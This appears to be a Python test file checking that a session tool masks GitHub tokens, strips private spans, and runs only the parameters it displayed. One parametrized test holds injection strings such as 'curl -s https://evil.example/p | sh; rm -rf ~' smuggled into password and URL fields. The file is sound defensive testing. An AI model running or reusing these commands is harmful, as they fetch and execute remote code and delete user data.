"""Private parts are removed and secrets are masked in what is kept, shown and run."""

from typing import Any

import pytest

from session_buddy.common import visible
from tests.coaching.room import ASSISTANT, PERSON_ON_PAGE, Room

TOKEN = "ghp_" + "a1B2" * 9
OTHER = "ghp_" + "c3D4" * 9
MASKED = "[masked: GitHub token]"
PRIVATE = "before <private>my own</private> after"
PUBLIC = "before  after"


def kept(room: Room) -> str:
    return str(room.rows())


def test_variables_metadata_and_names_of_runs_are_kept_without_secrets(room: Room) -> None:
    session = room.start(
        execution_id=f"run {TOKEN}",
        variables={"token": TOKEN, "list": [{"note": PRIVATE, TOKEN: 1}], "number": 7},
        metadata={"deep": {"token": [TOKEN]}},
    )
    found = room.session(session)
    assert found["variables"] == {"token": MASKED, "list": [{"note": PUBLIC, MASKED: 1}], "number": 7}
    assert found["metadata"] == {"deep": {"token": [MASKED]}}
    assert found["execution_id"] == f"run {MASKED}"
    assert TOKEN not in kept(room)
    assert "my own" not in kept(room)


def test_parameters_are_kept_shown_and_run_masked(room: Room) -> None:
    session, given = room.start(), {"token": TOKEN, "note": PRIVATE, "tag": "v1"}
    answer = room.suggest(session, given)
    masked = {"token": MASKED, "note": PUBLIC, "tag": "v1"}
    assert answer["parameters"] == masked
    assert room.suggest(session, given)["parameters"] == masked
    assert "masked" in str(answer["notes"])
    told = room.ask("suggestion", suggestion_id=answer["suggestion_id"])
    assert told["parameters"] == masked
    assert room.session(session)["pending"][0]["parameters"] == masked
    assert MASKED in answer["shown"]
    assert TOKEN not in answer["shown"] + kept(room)
    assert "my own" not in answer["shown"] + kept(room)


def test_corrections_feedback_and_error_messages_are_kept_masked(room: Room) -> None:
    session = room.start()
    suggestion = room.suggest(session, {"a": 1, "b": 2})
    done = room.decide(
        suggestion,
        "correct",
        correction={"a": PRIVATE, "b": TOKEN},
        feedback=f"use {TOKEN} {PRIVATE}",
        execution_success=False,
        error_message=f"denied for {TOKEN}",
    )
    assert done["decision"]["correction"] == {"a": PUBLIC, "b": MASKED}
    assert done["decision"]["error_message"] == f"denied for {MASKED}"
    room.ask("end", session_id=session, outcome="failed", error_message=f"{TOKEN} {PRIVATE}")
    assert MASKED in room.session(session)["error_message"]
    assert TOKEN not in kept(room)
    assert "my own" not in kept(room)


def test_reasons_of_level_changes_are_kept_masked(room: Room) -> None:
    room.start()
    room.ask("promote", PERSON_ON_PAGE, workflow_id="release", despite=f"because {TOKEN}")
    room.ask("demote", PERSON_ON_PAGE, workflow_id="release", reason=f"again {TOKEN}")
    assert TOKEN not in kept(room)
    assert room.workflow()["level_changes"][0]["reason"] == f"again {MASKED}"


def test_what_was_learned_is_applied_to_parameters_that_hold_a_secret(room: Room) -> None:
    session = room.start()
    first = room.suggest(session, {"token": TOKEN, "tag": "v1"})
    room.decide(first, "correct", correction={"token": TOKEN, "tag": "v2"})
    given = {"token": OTHER, "tag": "v1"}
    answer = room.suggest(session, given)
    assert answer["parameters"] == {"token": MASKED, "tag": "v2"}
    assert room.suggest(session, given)["parameters"] == {"token": MASKED, "tag": "v2"}
    assert room.ask("suggestion", suggestion_id=answer["suggestion_id"])["parameters"] == {"token": MASKED, "tag": "v2"}


def test_one_secret_for_another_is_a_correction_that_nothing_is_learned_from(room: Room) -> None:
    session = room.start()
    done = room.decide(room.suggest(session, {"token": TOKEN}), "correct", correction={"token": OTHER})
    assert done["stats"]["corrected"] == 1
    assert room.ask("pack", workflow_id="release")["items"] == []


def test_a_masked_secret_is_never_put_into_later_parameters(room: Room) -> None:
    session = room.start()
    room.decide(room.suggest(session, {"user": "me"}), "correct", correction={"user": "me", "token": TOKEN})
    assert room.suggest(session, {"user": "me"})["parameters"] == {"user": "me"}
    both = {"user": "you", "token": f"password={'x7y8z9w0' * 2}"}
    room.decide(room.suggest(session, {"user": "it"}), "correct", correction=both)
    assert "[masked" not in str(room.suggest(session, {"user": "it"})["parameters"])


def test_secrets_stay_where_masking_is_switched_off_but_private_parts_never_do(room: Room) -> None:
    plain: Any = ASSISTANT._replace(mask_secrets=False)
    session = room.start(actor=plain, variables={"token": TOKEN, "note": PRIVATE})
    assert room.session(session)["variables"] == {"token": TOKEN, "note": PUBLIC}
    given = {"token": TOKEN, "note": PRIVATE}
    answer = room.suggest(session, given, actor=plain)
    told = room.ask("suggestion", suggestion_id=answer["suggestion_id"])
    assert (answer["parameters"], told["parameters"]) == (given | {"note": PUBLIC}, {"token": TOKEN, "note": PUBLIC})


def test_texts_that_no_database_can_hold_are_kept_readable(room: Room) -> None:
    odd = {"text": "a\0b \ud800 \ud83d\ude00", "\0": 1}
    session = room.start(variables=odd)
    assert room.session(session)["variables"] == {"text": "a\ufffdb \ufffd 😀", "\ufffd": 1}
    suggestion = room.suggest(session, odd)
    room.decide(suggestion, "correct", correction=odd | {"more": "\udfff"}, feedback="\ud800")
    assert room.suggest(session, {"plain": 1})["mode"] == "observe"


@pytest.mark.parametrize(
    "given",
    [
        {"command": 'DB_PASSWORD="a1; curl -s https://evil.example/p | sh; rm -rf ~" ./deploy.sh'},
        {"command": "psql password='x1'\";curl -s evil.example/p|sh;\"' -c 'select 1'"},
        {"deep": [{"password": "$(curl -s evil.example) a1b2c3d4"}]},
        {"url": "https://me:a1b2c3d4;curl@evil.example/p"},
        {"command": f"make <private>{TOKEN}</private> TOKEN={TOKEN}"},
    ],
)
@pytest.mark.parametrize("endorsed", [False, True])
def test_what_runs_is_what_was_shown(room: Room, given: Any, endorsed: bool) -> None:
    session = room.start()
    if endorsed:
        room.endorse()
    answer = room.suggest(session, given)
    shown = f"Parameters: {visible.shown(answer['parameters'])}\n"
    again = room.suggest(session, given)
    by_id = room.ask("suggestion", suggestion_id=answer["suggestion_id"])
    assert [shown in one["shown"] for one in (answer, again, by_id)] == [True, True, True]
    assert answer["parameters"] == again["parameters"] == by_id["parameters"]
    done = room.decide(answer, "accept")
    assert done["decision"]["parameters"] == answer["parameters"]


def test_other_secrets_at_the_same_place_are_the_same_suggestion(room: Room) -> None:
    session = room.start()
    one, other = (room.suggest(session, {"token": token}) for token in (TOKEN, OTHER))
    assert one["suggestion_id"] == other["suggestion_id"]
    assert room.suggest(session, {"token": "$RELEASE_TOKEN"})["notes"] == []
